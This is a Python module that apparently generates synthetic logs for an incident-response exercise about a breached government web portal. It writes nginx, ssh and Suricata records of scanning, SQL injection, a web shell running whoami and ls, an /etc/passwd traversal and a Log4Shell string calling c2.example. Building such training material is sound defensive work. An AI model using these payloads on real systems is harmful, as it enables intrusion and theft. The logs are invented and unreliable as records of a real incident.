"""The portal's access log, its ssh log and what the rented monitoring saw."""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import datetime

import inbox_story as story
from inbox_story import after, dice

_PAGES = (
    "/", "/tin-tuc", "/van-ban", "/dich-vu-cong", "/lich-cong-tac", "/cong-bao", "/tim-kiem?q=thu+tuc+dat+dai", "/lien-he",
    "/css/site.css", "/js/site.js", "/images/logo.png", "/uploads/2021/05/lich-tiep-dan.pdf",
)  # fmt: skip
_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/90.0.4430.93 Safari/537.36",
    "Mozilla/5.0 (Windows NT 6.1) Gecko/20100101 Firefox/88.0",
    "Mozilla/5.0 (Linux; Android 10) AppleWebKit/537.36 Chrome/90.0.4430.91 Mobile Safari/537.36",
)
_SCAN = (
    "/admin",
    "/backup.zip",
    "/.git/config",
    "/.env",
    "/wp-login.php",
    "/phpmyadmin/",
    "/test.php",
    "/old/",
    "/manager/html",
)
_SCANNER = "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:map_codes)"
_SQLMAP = "sqlmap/1.5.4#stable (http://sqlmap.org)"


def access_log(lines: int = 3000) -> str:
    """nginx combined: a night of visitors, and one of them scans, injects, uploads a script and uses it."""
    rows = [*_visitors(lines - 330), *_attack()]
    rows.sort(key=lambda row: row[0])
    return "".join(line for _, line in rows)


def yesterday_log(lines: int = 400) -> str:
    """The night before, visitors only (its gzip copy in the inbox is cut short)."""
    return "".join(line for _, line in sorted(_visitors(lines, "yesterday", day=-86400)))


def _visitors(count: int, name: str = "visitors", day: float = 0) -> Iterator[tuple[datetime, str]]:
    random = dice(name)
    begin = after(story.PORTAL_AT, day - 7200)
    for _ in range(count):
        when = after(begin, int(random.random() * 8 * 3600))
        address = f"2001:db8:1:{random.randrange(1, 64):x}::{random.randrange(1, 4096):x}"
        status = 404 if random.random() < 0.01 else 200
        yield when, _line(when, address, f"GET {random.choice(_PAGES)}", status, random.choice(_AGENTS))


def _attack() -> Iterator[tuple[datetime, str]]:
    random = dice("attack")
    start = story.PORTAL_AT
    for index in range(240):
        path = random.choice(_SCAN) if index % 4 else f"/{random.randrange(10**6):06d}.php"
        when = after(start, index)
        yield when, _line(when, story.WEB_ATTACKER, f"GET {path}", 404, _SCANNER)
    for index in range(80):
        tail = "1%27%20or%20%271%27=%271" if index % 2 else f"-1+UNION+ALL+SELECT+{index},2,3--+"
        when = after(start, 600 + index * 3)
        status = 500 if index % 5 else 200
        yield when, _line(when, story.WEB_ATTACKER, f"GET /tin-tuc/chi-tiet?id={tail}", status, _SQLMAP)
    agent = _AGENTS[1]
    steps = (
        (1500, "POST /quan-tri/tai-len", 302), (1530, f"GET {story.WEB_SHELL}", 200),
        (1545, f"GET {story.WEB_SHELL}?cmd=whoami", 200), (1560, f"GET {story.WEB_SHELL}?cmd=uname+-a", 200),
        (1590, f"GET {story.WEB_SHELL}?cmd=ls+/var/www", 200), (1700, f"POST {story.WEB_SHELL}", 200),
        (1760, f"POST {story.WEB_SHELL}", 200), (1900, "GET /view.aspx?f=../../../../etc/passwd", 404),
        (1960, "GET /?x=%24%7Bjndi%3Aldap%3A%2F%2Fc2.example%2Fa%7D", 400), (2000, f"POST {story.WEB_SHELL}", 200),
    )  # fmt: skip
    for seconds, request, status in steps:
        when = after(start, seconds)
        yield when, _line(when, story.WEB_ATTACKER, request, status, agent)


def _line(when: datetime, address: str, request: str, status: int, agent: str) -> str:
    size = 200 + sum(request.encode()) % 9000
    return f'{address} - - [{when:%d/%b/%Y:%H:%M:%S %z}] "{request} HTTP/1.1" {status} {size} "-" "{agent}"\n'


def auth_log() -> str:
    """Syslog of the portal's machine: password guessing over ssh without success, and an administrator's own session."""
    random = dice("auth")
    rows: list[tuple[datetime, str]] = []
    for index in range(140):
        user = random.choice(("root", "admin", "backan", "portal", "test", "oracle"))
        known = "" if user in ("root", "portal") else "invalid user "
        text = f"Failed password for {known}{user} from {story.WEB_ATTACKER} port {40000 + index} ssh2"
        rows.append((after(story.SSH_AT, index * 4), f"sshd[{2000 + index}]: {text}"))
    rows.append(
        (after(story.SSH_AT, 7000), "sshd[4101]: Accepted publickey for quantri from 10.10.0.5 port 51022 ssh2")
    )
    rows.append(
        (after(story.SSH_AT, 7001), "sudo:  quantri : TTY=pts/0 ; PWD=/home/quantri ; USER=root ; COMMAND=/bin/ls")
    )
    lines = [f"{when:%b %e %H:%M:%S} {story.PORTAL_HOST} {text}\n" for when, text in rows]
    lines.insert(70, "sshd[20xx Failed passw\n")  # a line cut by a full disk
    return "".join(lines)


def eve_json() -> str:
    """What the rented monitoring saw (Suricata's EVE): alerts and events, and one line cut short."""
    rows: list[tuple[datetime, dict[str, object]]] = []
    for index in range(12):
        when = after(story.PORTAL_AT, 600 + index * 20)
        rows.append(
            (when, _eve_alert(story.WEB_ATTACKER, story.PORTAL_IP, 80, 2900101, "WEB SQL injection attempt", 1))
        )
    for index in range(8):
        when = after(story.BEACON_AT, index * 120)
        rows.append(
            (when, _eve_alert(story.COMMUNE_PUBLIC, story.C2_IP, 80, 2900202, "TROJAN check-in to known C2", 1))
        )
        dns = {"type": "query", "rrname": story.C2_NAME, "rrtype": "A"}
        rows.append((when, _eve(story.COMMUNE_PUBLIC, story.RESOLVER, 53, "dns", "UDP", {"dns": dns})))
    for index in range(40):
        http = {"hostname": story.PORTAL_NAME, "url": _PAGES[index % 8], "http_method": "GET", "status": 200}
        when = after(story.PORTAL_AT, index * 30)
        rows.append((when, _eve(f"2001:db8:1:{index + 1:x}::9", story.PORTAL_IP, 80, "http", "TCP", {"http": http})))
    rows.sort(key=lambda row: row[0])
    lines = [
        json.dumps({"timestamp": f"{when:%Y-%m-%dT%H:%M:%S.%f%z}", **row}, ensure_ascii=False) for when, row in rows
    ]
    lines.insert(30, lines[29][:57])
    return "\n".join(lines) + "\n"


def _eve(source: str, target: str, port: int, kind: str, proto: str, more: dict[str, object]) -> dict[str, object]:
    flow = sum(f"{source}{target}{port}{kind}".encode()) * 7919
    ends = {"src_ip": source, "src_port": 40000 + flow % 20000, "dest_ip": target, "dest_port": port, "proto": proto}
    return {"flow_id": flow, "in_iface": "mon0", "event_type": kind, **ends, **more}


def _eve_alert(source: str, target: str, port: int, sid: int, name: str, severity: int) -> dict[str, object]:
    alert = {
        "action": "allowed", "gid": 1, "signature_id": sid, "rev": 1, "signature": name,
        "category": "Web Application Attack" if sid == 2900101 else "A Network Trojan was detected", "severity": severity,
    }  # fmt: skip
    return _eve(source, target, port, "alert", "TCP", {"app_proto": "http", "alert": alert})
